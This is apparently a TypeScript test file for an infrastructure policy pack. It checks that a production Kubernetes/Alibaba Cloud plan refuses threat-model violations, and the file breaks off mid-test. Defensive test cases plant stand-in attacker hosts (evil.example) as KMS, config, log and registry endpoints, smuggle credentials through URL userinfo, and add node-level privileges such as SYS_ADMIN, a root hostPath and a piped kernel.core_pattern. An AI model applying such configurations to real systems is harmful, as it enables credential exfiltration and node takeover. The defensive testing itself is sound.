// The rows of the threat model (docs/threat-model.md) a plan can show, each tried on
// the REAL planned prod1 stack under prod.json: a stack-file change along the row (or one
// mutated field where no config key reaches it) is a mandatory violation naming the
// value and the list; the stack as it is, and ordinary changes, pass.
import * as fs from "fs";
import * as path from "path";
import {
  credentialEndpoints,
  fluentBitOutputs,
  metadataGuard,
  HAPROXY_POOL_PARENT,
  hostPortProblem,
  parentChainEndsWith,
  noPublicLoadBalancers,
  albConfigReferences,
  patchedServicesExposure,
  platformNamespaces,
  podPrivileges,
  turnsOn,
  urlProblem,
  chartRef,
  CHART_SERVICE_VALUES,
} from "../../policies/rules/threats";
import { trustedSources } from "../../policies/rules/sources";
import { validatedInPre } from "../../policies/rules/promotion";
import { deletionProtection } from "../../policies/rules/nodes";
import type { PolicyResource, PolicyStack } from "../../policies/rules/policy";
import { PlatformPolicy, POLICY_DEFINITIONS, runPolicies } from "../../policies/pack";
import { checkPlan, loadPolicyConfig, planToPolicyStack, policyConfigFileFor } from "../../components/preview/policyCheck";
import { plan, preValidating } from "../support/offline";
import { RESERVED_NAMESPACES } from "../../components/apps/javaAppRules";
import { kmsEndpointProblems } from "../../components/config/kinds";
import { readStackFile } from "../../components/config/stackFiles";

const prodConfig = loadPolicyConfig(policyConfigFileFor("prod1"));
const cfg = (name: string) => prodConfig.get(name)!.config;

let prod1: PolicyStack;
beforeAll(async () => {
  prod1 = planToPolicyStack(await plan("prod1"));
});

function mutated(edit: (s: PolicyStack) => void): PolicyStack {
  const copy = structuredClone(prod1);
  edit(copy);
  return copy;
}
const one = (s: PolicyStack, name: string): PolicyResource => {
  const found = s.resources.filter((r) => r.name === name);
  if (found.length !== 1) throw new Error(`expected one ${name}, found ${found.length}`);
  return found[0];
};
const messages = (s: PolicyStack, p: PlatformPolicy) => runPolicies(s, [p]).map((v) => v.message);
const any = (v: unknown) => v as Record<string, any>;
const podSpec = (s: PolicyStack, name: string) => any(one(s, name).props).spec.template.spec;
const ORDER = "prod1-order-service-deployment-order-service";
const FIX = "allowed values live in the pack config (policies/config/prod.json or nonprod.json), not in the stack file";

describe("each new rule cites the threat rows it stops", () => {
  test.each([
    ["credential-endpoints", ["T1", "T2", "T3", "T4", "T5", "T6"]],
    ["pod-privileges", ["T11"]],
    ["no-public-load-balancers", ["T15"]],
    ["patched-services", ["T15"]],
    ["platform-namespaces", ["T17"]],
    ["metadata-guard", ["T12"]],
    ["pinned-capacity", ["T18"]],
    ["validated-in-pre", ["T21"]],
  ])("%s", (name, rows) => {
    const def = POLICY_DEFINITIONS.find((d) => d.name === name)!;
    for (const row of rows) expect(def.description).toContain(`(${row})`);
  });
});

describe("docs/policy-pack.md: one row per rule, each naming threat rows that exist and name the rule back", () => {
  const read = (f: string) => fs.readFileSync(path.join(__dirname, "..", "..", "docs", f), "utf8").split("\n");
  const rows = (text: string) =>
    [...text.matchAll(/T(\d+)(?:-T(\d+))?/g)].flatMap((m) => {
      const from = Number(m[1]);
      const to = m[2] === undefined ? from : Number(m[2]);
      return Array.from({ length: to - from + 1 }, (_, i) => `T${from + i}`);
    });
  const table = read("policy-pack.md").filter((l) => /^\| `[a-z-]+` +\|/.test(l));
  const threats = read("threat-model.md");

  test("every rule of the pack has exactly one row, and the table lists nothing else", () => {
    const names = table.map((l) => /^\| `([a-z-]+)`/.exec(l)![1]);
    expect(names).toHaveLength(22);
    expect([...names].sort()).toEqual([...POLICY_DEFINITIONS.map((d) => d.name)].sort());
    expect(new Set(names).size).toBe(names.length);
  });

  test("the resource rules the doc names are the pack's (credential-endpoints among them: it runs before a master is created, M-2)", () => {
    const text = read("policy-pack.md").join(" ");
    const sentence = /Nine are resource rules \(([^)]*)\)/.exec(text)![1];
    const named = [...sentence.matchAll(/`([a-z-]+)`/g)].map((m) => m[1]);
    const resourceRules = [
      "no-public-ip-on-nodes",
      "no-open-admin-ports",
      "deletion-protection",
      "approved-instance-types",
      "credential-endpoints",
      "pod-privileges",
      "no-public-load-balancers",
      "platform-namespaces",
      "metadata-guard",
    ];
    expect(named).toEqual(resourceRules);
    expect(POLICY_DEFINITIONS.filter((d) => d.scope === "resource").map((d) => d.name)).toEqual(resourceRules);
    expect(text).toContain("the other thirteen are stack rules");
    expect(POLICY_DEFINITIONS.filter((d) => d.scope === "stack")).toHaveLength(13);
  });

  test.each(POLICY_DEFINITIONS.map((d) => d.name))(
    "%s: its rows exist in threat-model.md, each names it as a guard, and the rows its description cites are in its cell",
    (name) => {
      const cells = table
        .find((l) => l.startsWith(`| \`${name}\``))!
        .split("|")
        .map((c) => c.trim());
      const cited = rows(cells[cells.length - 2]);
      for (const t of cited) {
        const row = threats.find((l) => l.startsWith(`| ${t} `));
        expect([t, row !== undefined && row.includes(`\`${name}\``)]).toEqual([t, true]);
      }
      const def = POLICY_DEFINITIONS.find((d) => d.name === name)!;
      for (const t of rows(def.description)) expect(cited).toContain(t);
    },
  );
});

describe("credential-endpoints (T1-T6): stack-file changes that send credentials or take code elsewhere", () => {
  const p = () => credentialEndpoints("mandatory", cfg("credential-endpoints"));

  test("prod1 passes", () => {
    expect(messages(prod1, p())).toEqual([]);
  });

  // T1: the masters' KMS is in their user data (a secret); the pack reads the platform:kms-endpoint tag
  // the program sets from the same URL (components/cluster/cluster.ts kmsEndpointTag).
  const PROD_KMS =
    "kms.cn-hangzhou.aliyuncs.com, kms-vpc.cn-hangzhou.aliyuncs.com, kst-hzzplaceholderhost.cryptoservice.kms.aliyuncs.com, kms.cn-shanghai.aliyuncs.com, kms-vpc.cn-shanghai.aliyuncs.com, kst-shhplaceholderprod1.cryptoservice.kms.aliyuncs.com, kms.cn-beijing.aliyuncs.com, kms-vpc.cn-beijing.aliyuncs.com, kst-bjjplaceholderprod2.cryptoservice.kms.aliyuncs.com";
  const tagsOf = (s: PolicyStack, name: string) => any(one(s, name).props).tags as Record<string, string>;

  test("T1: a master whose platform:kms-endpoint tag names another host (forged in the plan) is refused, naming the tag, the host and the list", () => {
    const forged = mutated((s) => {
      tagsOf(s, "prod1-master-1")["platform:kms-endpoint"] = "kms.evil.example";
      // A look-alike under the real name, and a master found by its name alone (its role tag dropped).
      tagsOf(s, "prod1-master-2")["platform:kms-endpoint"] = "kms-vpc.cn-shanghai.aliyuncs.com.evil.example";
      delete tagsOf(s, "prod1-master-2")["platform:role"];
    });
    expect(messages(forged, p())).toEqual([
      `prod1-master-1: platform:kms-endpoint kms.evil.example is not an allowed KMS endpoint (${PROD_KMS}): the master would send role-signed requests there and install the PKI it returns; ${FIX} (credential-endpoints.kmsEndpoints)`,
      `prod1-master-2: platform:kms-endpoint kms-vpc.cn-shanghai.aliyuncs.com.evil.example is not an allowed KMS endpoint (${PROD_KMS}): the master would send role-signed requests there and install the PKI it returns; ${FIX} (credential-endpoints.kmsEndpoints)`,
    ]);
    // A worker's tags are not the masters' concern here (it fetches only its join token).
    expect(
      messages(
        mutated((s) => (tagsOf(s, "prod1-general-0")["platform:kms-endpoint"] = "kms.evil.example")),
        p(),
      ),
    ).toEqual([]);
  });

  test("T1: a master without the tag is refused: the pack cannot tell where it fetches the PKI", () => {
    const untagged = mutated((s) => delete tagsOf(s, "prod1-master-0")["platform:kms-endpoint"]);
    expect(messages(untagged, p())).toEqual([
      `prod1-master-0: a master without the platform:kms-endpoint tag, so the pack cannot tell which KMS it fetches the cluster's PKI from; the program sets it from platform:secretStore.endpoint, allowed (${PROD_KMS}) (credential-endpoints.kmsEndpoints)`,
    ]);
    const empty = mutated((s) => (tagsOf(s, "prod1-master-0")["platform:kms-endpoint"] = ""));
    expect(messages(empty, p())).toHaveLength(1);
  });

  test.each([
    ["host", "kms-vpc.cn-hangzhou.aliyuncs.com", 3],
    ["dev", "kms-vpc.cn-hangzhou.aliyuncs.com", 1],
    ["test", "kms-vpc.cn-hangzhou.aliyuncs.com", 1],
    ["pre", "kms-vpc.cn-shanghai.aliyuncs.com", 3],
    ["prod1", "kms-vpc.cn-shanghai.aliyuncs.com", 3],
    ["prod2", "kms-vpc.cn-beijing.aliyuncs.com", 3],
  ])("T1: %s's masters carry its region's VPC endpoint %s and pass under the stack's pack config", async (stack, host, count) => {
    const s = planToPolicyStack(await plan(stack));
    const masters = s.resources.filter((r) => r.type === "alicloud:ecs/instance:Instance" && any(r.props).tags["platform:role"] === "master");
    expect(masters.map((m) => any(m.props).tags["platform:kms-endpoint"])).toEqual(Array(count).fill(host));
    const own = loadPolicyConfig(policyConfigFileFor(stack)).get("credential-endpoints")!.config;
    expect(messages(s, credentialEndpoints("mandatory", own))).toEqual([]);
  });

  test.each([
    ["host", "cn-hangzhou", "kst-hzzplaceholderhost"],
    ["dev", "cn-hangzhou", "kst-hzzplaceholderdev"],
    ["test", "cn-hangzhou", "kst-hzzplaceholdertest"],
    ["pre", "cn-shanghai", "kst-shhplaceholderpre"],
    ["prod1", "cn-shanghai", "kst-shhplaceholderprod1"],
    ["prod2", "cn-beijing", "kst-bjjplaceholderprod2"],
  ])("T1: each KMS endpoint config accepts for %s (%s, %s) is on its pack config's kmsEndpoints", (stack, region, instance) => {
    const file = readStackFile(stack).values;
    expect([file["alicloud:region"], (file["platform:secretStore"] as { kmsInstanceId: string }).kmsInstanceId]).toEqual([region, instance]);
    // The three forms of "Sample code for obtaining a secret value" (KMS docs, get-secret-value-example-of-java, Jan 24, 2025).
    const hosts = [`kms.${region}.aliyuncs.com`, `kms-vpc.${region}.aliyuncs.com`, `${instance}.cryptoservice.kms.aliyuncs.com`];
    for (const h of hosts) expect(kmsEndpointProblems(`https://${h}`, region, instance)).toEqual([]);
    const listed = (loadPolicyConfig(policyConfigFileFor(stack)).get("credential-endpoints")!.config as { kmsEndpoints: string[] }).kmsEndpoints;
    expect(hosts.filter((h) => !listed.includes(h))).toEqual([]);
  });

  test("another Apollo meta (T5), another Elasticsearch (T3), another broker (T4), another OS image (T6); userinfo from code (T2)", async () => {
    const moved = planToPolicyStack(
      await plan("prod1", [
        "platform:apollo.meta=http://apollo.evil.example:8080",
        "platform:logSearch.elasticsearch=https://es-api.log.livemall.internal.evil.example",
        "platform:logging.brokers[2]=kafka-3.evil.example:9093",
        "platform:osImageId=ubuntu_22_04_x64_20G_evil.vhd",
      ]),
    );
    const found = runPolicies(moved, [p()]);
    expect(found.every((v) => v.level === "mandatory")).toBe(true);
    const texts = found.map((v) => v.message);
    // 3 apps x Apollo, 1 Job x Elasticsearch (Kibana unchanged passes), 1 broker, 33 instances.
    expect(texts).toHaveLength(3 + 1 + 1 + 33);
    expect(texts).toContain(
      `${ORDER}: container app env APOLLO_META http://apollo.evil.example:8080 is not an allowed endpoint (http://apollo-meta.pro.livemall.internal:8080; exactly, no path, query or fragment); allowed values live in the pack config (policies/config/prod.json or nonprod.json), not in the stack file (credential-endpoints.apolloMeta)`,
    );
    // The stack file cannot carry userinfo (config refuses it: test/config/kinds.test.ts); a URL built in code can, and the pack catches it.
    const smuggled = mutated((s) => {
      for (const e of podSpec(s, ORDER).containers[0].env)
        if (e.name === "APOLLO_META") e.value = "http://apollo-meta.pro.livemall.internal:8080@apollo.evil.example";
    });
    expect(messages(smuggled, p())).toEqual([
      `${ORDER}: container app env APOLLO_META http://apollo.evil.example (userinfo not shown) has userinfo, so it connects to apollo.evil.example, not to the host before '@'; allowed values live in the pack config (policies/config/prod.json or nonprod.json), not in the stack file (credential-endpoints.apolloMeta)`,
    ]);
    // T5: a comma list (Apollo load-balances over it) and a path are not the allowed origin.
    const listed = mutated((s) => {
      for (const e of podSpec(s, ORDER).containers[0].env)
        if (e.name === "APOLLO_META") e.value = "http://apollo-meta.pro.livemall.internal:8080/,http://evil.example:8080";
    });
    expect(messages(listed, p())).toEqual([
      `${ORDER}: container app env APOLLO_META http://apollo-meta.pro.livemall.internal:8080 (path not shown) holds a comma, which a client reads as a list of servers; allowed values live in the pack config (policies/config/prod.json or nonprod.json), not in the stack file (credential-endpoints.apolloMeta)`,
    ]);
    const pathed = mutated((s) => {
      for (const e of podSpec(s, ORDER).containers[0].env) if (e.name === "APOLLO_META") e.value = "http://apollo-meta.pro.livemall.internal:8080/x";
    });
    expect(messages(pathed, p())).toEqual([
      `${ORDER}: container app env APOLLO_META http://apollo-meta.pro.livemall.internal:8080 (path not shown) is not an allowed endpoint (http://apollo-meta.pro.livemall.internal:8080; exactly, no path, query or fragment); allowed values live in the pack config (policies/config/prod.json or nonprod.json), not in the stack file (credential-endpoints.apolloMeta)`,
    ]);
    // T5: JVM flags outrank APOLLO_META; an endpoint variable from valueFrom cannot be checked.
    const flagged = mutated((s) => {
      const env = podSpec(s, ORDER).containers[0].env;
      env.push({
        name: "JAVA_TOOL_OPTIONS",
        value: "-Xmx1g -Dapollo.config-service=http://evil.example:8080 -Dpro_meta=http://apollo-meta.pro.livemall.internal:8080",
      });
      for (const e of env)
        if (e.name === "APOLLO_META") {
          delete e.value;
          e.valueFrom = { secretKeyRef: { name: "x", key: "meta" } };
        }
    });
    expect(messages(flagged, p())).toEqual([
      `${ORDER}: container app env APOLLO_META takes its value from valueFrom, which the plan cannot check; an endpoint variable must be a literal value on the pack's list (credential-endpoints.apolloMeta)`,
      `${ORDER}: container app env JAVA_TOOL_OPTIONS sets -Dapollo.config-service to http://evil.example:8080, which is not an allowed endpoint (http://apollo-meta.pro.livemall.internal:8080; exactly, no path, query or fragment); allowed values live in the pack config (policies/config/prod.json or nonprod.json), not in the stack file (credential-endpoints.apolloMeta)`,
    ]);
    expect(texts).toContain(
      "prod1-log-search-sync: container sync env ES_URL https://es-api.log.livemall.internal.evil.example is not an allowed endpoint (https://es-api.log.livemall.internal, https://kibana.log.livemall.internal); allowed values live in the pack config (policies/config/prod.json or nonprod.json), not in the stack file (credential-endpoints.logSearch)",
    );
    expect(
      texts.filter((t) => t.startsWith("prod1-logging-fluent-bit: fluent-bit output kafka-3.evil.example:9093 is not an allowed log store (")),
    ).toHaveLength(1);
    expect(texts.filter((t) => / boots image ubuntu_22_04_x64_20G_evil\.vhd, not an allowed OS image/.test(t))).toHaveLength(33);
  });

  test("another tracing Elasticsearch (T33): every trace and OAP's password would go there", async () => {
    const moved = planToPolicyStack(await plan("prod1", ['platform:tracing.elasticsearch={"host":"es-apm.evil.example","port":9200}']));
    expect(messages(moved, p())).toEqual([
      "prod1-tracing-skywalking: SkyWalking OAP's Elasticsearch es-apm.evil.example:9200 is not an allowed tracing store (es-apm.prod.livemall.internal:9200); allowed values live in the pack config (policies/config/prod.json or nonprod.json), not in the stack file (credential-endpoints.tracingStores)",
    ]);
  });

  test("m-4: a value that may hold a credential is shown by its scheme and host only, never its userinfo, path or query (CrossGuard does not redact)", () => {
    const SECRET_URL = "https://user:s3cret@evil.example/x?token=abc";
    const leaky = mutated((s) => {
      const ctr = podSpec(s, ORDER).containers[0];
      ctr.env = [
        ...ctr.env.filter((e: { name: string }) => e.name !== "APOLLO_META"),
        { name: "APOLLO_META", value: SECRET_URL },
        { name: "JAVA_TOOL_OPTIONS", value: `-Xmx1g -Dapollo.meta=${SECRET_URL}` },
      ];
      const job = any(one(s, "prod1-log-search-sync").props).spec.template.spec.containers[0];
      job.env = job.env.map((e: { name: string; value?: string }) =>
        e.name === "ES_URL" ? { name: "ES_URL", value: "https://es-api.log.livemall.internal.evil.example/_search?token=abc" } : e,
      );
      any(one(s, "prod1-logging-fluent-bit").props).values.config.outputs = "[OUTPUT]\n    Name kafka\n    Brokers user:s3cret@kafka-3.evil.example:9093\n";
    });
    expect(messages(leaky, p())).toEqual([
      `prod1-logging-fluent-bit: fluent-bit output kafka-3.evil.example:9093 has userinfo, so it connects to kafka-3.evil.example:9093; ${FIX} (credential-endpoints.logStores)`,
      `${ORDER}: container app env APOLLO_META https://evil.example (userinfo, path, query not shown) has userinfo, so it connects to evil.example, not to the host before '@'; ${FIX} (credential-endpoints.apolloMeta)`,
      `${ORDER}: container app env JAVA_TOOL_OPTIONS sets -Dapollo.meta to https://evil.example (userinfo, path, query not shown), which has userinfo, so it connects to evil.example, not to the host before '@'; ${FIX} (credential-endpoints.apolloMeta)`,
      `prod1-log-search-sync: container sync env ES_URL https://es-api.log.livemall.internal.evil.example (path, query not shown) is not an allowed endpoint (https://es-api.log.livemall.internal, https://kibana.log.livemall.internal); ${FIX} (credential-endpoints.logSearch)`,
    ]);
    for (const m of runPolicies(
      leaky,
      POLICY_DEFINITIONS.map((d) => d.create("mandatory", cfg(d.name))),
    ).map((v) => v.message)) {
      expect([m, m.includes("s3cret") || m.includes("token=abc")]).toEqual([m, false]);
    }
  });

  test("urlProblem: the URL parser decides the host; scheme, port and path boundary count", () => {
    const allowed = ["https://kibana.log.livemall.internal", "http://apollo-meta.pro.livemall.internal:8080"];
    expect(urlProblem("https://kibana.log.livemall.internal", allowed)).toBeUndefined();
    expect(urlProblem("https://kibana.log.livemall.internal:443/app", allowed)).toBeUndefined();
    expect(urlProblem("https://KIBANA.log.livemall.internal/", allowed)).toBeUndefined();
    expect(urlProblem("https://kibana.log.livemall.internal@evil.example", allowed)).toBe(
      "has userinfo, so it connects to evil.example, not to the host before '@'",
    );
    expect(urlProblem("https://user:pw@kibana.log.livemall.internal", allowed)).toMatch(/^has userinfo/);
    expect(urlProblem("http://kibana.log.livemall.internal", allowed)).toMatch(/^is not an allowed endpoint/);
    expect(urlProblem("https://kibana.log.livemall.internal:8443", allowed)).toMatch(/^is not an allowed endpoint/);
    expect(urlProblem("https://kibana.log.livemall.internal.evil.example", allowed)).toMatch(/^is not an allowed endpoint/);
    expect(urlProblem("http://apollo-meta.pro.livemall.internal:80", allowed)).toMatch(/^is not an allowed endpoint/);
    expect(urlProblem("not a url", allowed)).toBe("is not a URL");
  });

  test("hostPortProblem and fluentBitOutputs: brokers and es outputs as host:port", () => {
    const allowed = ["kafka-1.log.livemall.internal:9093"];
    expect(hostPortProblem("kafka-1.log.livemall.internal:9093", allowed)).toBeUndefined();
    expect(hostPortProblem("x@kafka-1.log.livemall.internal:9093", allowed)).toMatch(/^has userinfo/);
    expect(hostPortProblem("kafka-1.log.livemall.internal:9094", allowed)).toMatch(/^is not an allowed log store/);
    expect(hostPortProblem("kafka-1.log.livemall.internal", allowed)).toBe("is not host:port");
    expect(hostPortProblem("kafka-1.log.livemall.internal:9093/x", allowed)).toBe("is not host:port");
    expect(
      fluentBitOutputs("[OUTPUT]\n    Name es\n    Host es.dev.livemall.internal\n    Port 9200\n[OUTPUT]\n    Name kafka\n    Brokers a:1, b:2\n"),
    ).toEqual(["es.dev.livemall.internal:9200", "a:1", "b:2"]);
  });
});

describe("trusted-sources at the Harbor project level (T7)", () => {
  test("an app image from another project of the company Harbor is refused; commerce and scm pass", async () => {
    const p = trustedSources("mandatory", cfg("trusted-sources"));
    expect(messages(prod1, p)).toEqual([]);
    // pre's output answered as if pre ran the sandbox image too: the program lets it through, so the pack's rule is what is tested.
    const sandbox = { "supply-chain": { repository: "harbor.livemall.internal/sandbox/supply-chain", tags: ["supply-chain-v3.1.1"] } };
    const moved = planToPolicyStack(
      await plan("prod1", ["platform:apps.supply-chain.image=harbor.livemall.internal/sandbox/supply-chain"], { stackOutputs: preValidating(sandbox) }),
    );
    const found = messages(moved, p);
    expect(found).toHaveLength(1);
    expect(found[0]).toMatch(
      /^prod1-supply-chain-deployment-supply-chain: container app pulls harbor\.livemall\.internal\/sandbox\/supply-chain:supply-chain-v3\.1\.1 \(harbor\.livemall\.internal\/sandbox\/supply-chain\), not from a trusted registry \(harbor\.livemall\.internal\/commerce, harbor\.livemall\.internal\/scm,/,
    );
  });
});

describe("trusted-sources: a Helm release's own image values (T7), second review of issue #30", () => {
  test("the charts' images moved off the mirror are refused, each value named; the six stacks' releases pass", async () => {
    const p = trustedSources("mandatory", cfg("trusted-sources"));
    expect(messages(prod1, p)).toEqual([]);
    const moved = planToPolicyStack(await plan("prod1", ["platform:images.registry=evil.example.com"]));
    const charts = messages(moved, p).filter((m) => m.includes("chart images"));
    // 21 values the releases set, kube-prometheus-stack's thanosImage and node-exporter's permissionInitContainer (overridden
    // since T7's chart defaults are read), and the CSI chart's images.registryVPC, named as the image the chart composes from it.
    expect(charts).toHaveLength(24);
    expect(charts).toContain(
      `prod1-logging-fluent-bit: values.image.repository evil.example.com/cr.fluentbit.io/fluent/fluent-bit is not a trusted source of chart images (mirror.livemall.internal); trusted sources live in the pack config (policies/config/prod.json or nonprod.json, trusted-sources), not in the stack file`,
    );
    expect(charts).toContain(
      `prod1-monitoring-kube-prometheus-stack: values.prometheus-node-exporter.image.registry evil.example.com/quay.io is not a trusted source of chart images (mirror.livemall.internal); trusted sources live in the pack config (policies/config/prod.json or nonprod.json, trusted-sources), not in the stack file`,
    );
  });
});

describe("pod-privileges (T11)", () => {
  const p = () => podPrivileges("mandatory", cfg("pod-privileges"));

  test("prod1 passes: flannel, fluent-bit, the CSI controller and kube-router are the allowed platform workloads", () => {
    expect(messages(prod1, p())).toEqual([]);
    expect(cfg("pod-privileges").privilegedWorkloads).toEqual([
      "DaemonSet/kube-flannel/kube-flannel-ds",
      "logging/fluent-bit@fluent-bit",
      "Deployment/kube-system/csi-provisioner",
      "DaemonSet/kube-system/kube-router",
    ]);
    // Node-exporter's host access is on by default in kube-prometheus-stack 87.12.5 (prometheus-node-exporter
    // 4.55.1 values.yaml:382-397), the CSI node plugin's whatever the values: granted path by path.
    expect(cfg("pod-privileges").privilegedChartValues).toEqual([
      "monitoring/kube-prometheus-stack@kube-prometheus-stack:prometheus-node-exporter.hostNetwork",
      "monitoring/kube-prometheus-stack@kube-prometheus-stack:prometheus-node-exporter.hostPID",
      "monitoring/kube-prometheus-stack@kube-prometheus-stack:prometheus-node-exporter.hostRootFsMount.enabled",
      "kube-system/alibaba-cloud-csi-driver@alibaba-cloud-csi-driver:plugin.enabled",
    ]);
  });

  test("without the chart grants, prod1's node-exporter defaults and CSI node plugin are named: the chart's defaults count", () => {
    const found = messages(prod1, podPrivileges("mandatory", { ...cfg("pod-privileges"), privilegedChartValues: [] }));
    expect(found).toEqual(
      [
        "prod1-disk-csi-driver: kube-system/alibaba-cloud-csi-driver asks for the node (plugin.enabled (chart default): a privileged node plugin with hostNetwork, hostPID, hostIPC) but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner, DaemonSet/kube-system/kube-router); FIX (pod-privileges.privilegedWorkloads)",
        "prod1-monitoring-kube-prometheus-stack: monitoring/kube-prometheus-stack asks for the node (prometheus-node-exporter.hostNetwork (chart default): hostNetwork, prometheus-node-exporter.hostPID (chart default): hostPID, prometheus-node-exporter.hostRootFsMount.enabled (chart default): hostPath /) but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner, DaemonSet/kube-system/kube-router); FIX (pod-privileges.privilegedWorkloads)",
      ].map((m) => m.replace("FIX", FIX)),
    );
  });

  test("capabilities beyond baseline, allowPrivilegeEscalation, hostPort, Unconfined seccomp/AppArmor at pod, container, init and ephemeral level", () => {
    const bad = mutated((s) => {
      const spec = podSpec(s, ORDER);
      spec.securityContext = { seccompProfile: { type: "Unconfined" } };
      spec.containers[0].securityContext = {
        allowPrivilegeEscalation: true,
        capabilities: { drop: ["ALL"], add: ["NET_BIND_SERVICE", "NET_ADMIN", "SYS_ADMIN"] },
      };
      spec.containers[0].ports = [{ containerPort: 8080, hostPort: 8080 }];
      spec.initContainers[0].securityContext = { appArmorProfile: { type: "Unconfined" } };
      spec.ephemeralContainers = [{ name: "debug", image: "busybox", securityContext: { privileged: "true" } }];
      any(one(s, ORDER).props).spec.template.metadata.annotations = { "container.apparmor.security.beta.kubernetes.io/app": "unconfined" };
    });
    expect(messages(bad, p())).toEqual([
      `${ORDER}: Deployment/commerce/order-service asks for the node (` +
        [
          "template.metadata.annotations[container.apparmor.security.beta.kubernetes.io/app]=unconfined",
          "template.spec.containers[0].ports[0].hostPort",
          "template.spec.containers[0].securityContext.allowPrivilegeEscalation",
          "template.spec.containers[0].securityContext.capabilities.add[1]=NET_ADMIN",
          "template.spec.containers[0].securityContext.capabilities.add[2]=SYS_ADMIN",
          "template.spec.ephemeralContainers[0].securityContext.privileged",
          "template.spec.initContainers[0].securityContext.appArmorProfile.type=Unconfined",
          "template.spec.securityContext.seccompProfile.type=Unconfined",
        ].join(", ") +
        `) but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner, DaemonSet/kube-system/kube-router); ${FIX} (pod-privileges.privilegedWorkloads)`,
    ]);
  });

  test("the rest of baseline: procMount Unmasked, an unsafe sysctl, an SELinux type, user or role, windowsOptions.hostProcess", () => {
    const bad = mutated((s) => {
      const spec = podSpec(s, ORDER);
      spec.securityContext = {
        sysctls: [
          { name: "net.ipv4.tcp_syncookies", value: "1" },
          { name: "kernel.core_pattern", value: "|/tmp/x" },
        ],
        seLinuxOptions: { type: "spc_t" },
      };
      spec.containers[0].securityContext = { procMount: "Unmasked", seLinuxOptions: { type: "container_t", user: "system_u" } };
      spec.initContainers[0].securityContext = { windowsOptions: { hostProcess: true }, procMount: "Default" };
    });
    expect(messages(bad, p())).toEqual([
      `${ORDER}: Deployment/commerce/order-service asks for the node (` +
        [
          "template.spec.containers[0].securityContext.procMount=Unmasked",
          "template.spec.containers[0].securityContext.seLinuxOptions.user=system_u",
          "template.spec.initContainers[0].securityContext.windowsOptions.hostProcess",
          "template.spec.securityContext.seLinuxOptions.type=spc_t",
          "template.spec.securityContext.sysctls[1]=kernel.core_pattern",
        ].join(", ") +
        `) but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner, DaemonSet/kube-system/kube-router); ${FIX} (pod-privileges.privilegedWorkloads)`,
    ]);
  });

  test("a baseline capability, RuntimeDefault and hostPort 0 are not privileges", () => {
    const ok = mutated((s) => {
      const spec = podSpec(s, ORDER);
      spec.securityContext = { seccompProfile: { type: "RuntimeDefault" } };
      spec.containers[0].securityContext = {
        allowPrivilegeEscalation: false,
        capabilities: { drop: ["ALL"], add: ["NET_BIND_SERVICE"] },
        appArmorProfile: { type: "RuntimeDefault" },
      };
      spec.containers[0].ports = [{ containerPort: 8080, hostPort: 0 }];
    });
    expect(messages(ok, p())).toEqual([]);
  });

  test('Helm values: a string "true", a path the chart turns into privilege (ingress-nginx chroot), a grant that covers only its own path, a chart version the pack never read', () => {
    const bad = mutated((s) => {
      any(one(s, "prod1-metrics-metrics-server").props).values.hostNetwork = { enabled: "true" };
      const controller = any(one(s, "prod1-ingress-controller").props).values.controller;
      controller.image = { chroot: true };
      controller.podAnnotations["container.apparmor.security.beta.kubernetes.io/controller"] = "unconfined";
      any(one(s, "prod1-monitoring-kube-prometheus-stack").props).values["prometheus-node-exporter"] = { hostNetwork: true, hostIPC: "yes" };
      any(one(s, "prod1-logging-fluent-bit").props).version = "0.58.0";
      any(one(s, "prod1-disk-csi-driver").props).version = "1.37.0";
    });
    expect(messages(bad, p()).map((m) => m.slice(0, m.indexOf(" but is not")))).toEqual([
      "prod1-disk-csi-driver: kube-system/alibaba-cloud-csi-driver asks for the node (chart alibaba-cloud-csi-driver 1.37.0, whose privilege values the pack read at 1.36.2 only (CHART_PRIVILEGE_VALUES))",
      "prod1-metrics-metrics-server: kube-system/metrics-server asks for the node (hostNetwork.enabled)",
      "prod1-monitoring-kube-prometheus-stack: monitoring/kube-prometheus-stack asks for the node (prometheus-node-exporter.hostIPC)",
      "prod1-ingress-controller: ingress-nginx/ingress-nginx asks for the node (controller.image.chroot: allowPrivilegeEscalation and SYS_CHROOT, controller.podAnnotations[container.apparmor.security.beta.kubernetes.io/controller]=unconfined)",
    ]);
    // fluent-bit is a privileged workload as a whole: its version does not matter to this rule.
  });

  test("turnsOn reads values as Go templates do", () => {
    expect([true, "true", "false", 1, "yes", { enabled: true }, { enabled: "1" }, [1]].map(turnsOn)).toEqual([true, true, true, true, true, true, true, true]);
    expect([false, 0, "", null, undefined, { enabled: false }, {}, []].map(turnsOn)).toEqual([false, false, false, false, false, false, false, false]);
  });

  test("an app with hostNetwork, a privileged container, a hostPath volume; a chart's values asking for hostPID", () => {
    const bad = mutated((s) => {
      const spec = podSpec(s, ORDER);
      spec.hostNetwork = true;
      spec.containers[0].securityContext = { privileged: true };
      spec.volumes = [...(spec.volumes ?? []), { name: "root", hostPath: { path: "/" } }];
      any(one(s, "prod1-monitoring-kube-prometheus-stack").props).values.prometheus = { prometheusSpec: { hostPID: true } };
    });
    // Sorted: the plan's resource order is not what this test is about.
    const found = messages(bad, p()).sort();
    expect(found).toHaveLength(2);
    const volumeIndex = podSpec(bad, ORDER).volumes.length - 1;
    expect(found[1]).toBe(
      `${ORDER}: Deployment/commerce/order-service asks for the node (template.spec.containers[0].securityContext.privileged, template.spec.hostNetwork, template.spec.volumes[${volumeIndex}].hostPath) but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner, DaemonSet/kube-system/kube-router); allowed values live in the pack config (policies/config/prod.json or nonprod.json), not in the stack file (pod-privileges.privilegedWorkloads)`,
    );
    expect(found[0]).toMatch(
      /^prod1-monitoring-kube-prometheus-stack: monitoring\/kube-prometheus-stack asks for the node \(prometheus\.prometheusSpec\.hostPID\)/,
    );
  });

  test("a namespace labelled Pod Security privileged must be in privilegedNamespaces: prod1's kubesphere-system is, an app namespace is not", () => {
    expect(cfg("pod-privileges").privilegedNamespaces).toEqual(["kube-flannel", "kubesphere-system"]);
    const patch = one(prod1, "prod1-kubesphere-namespace-labels");
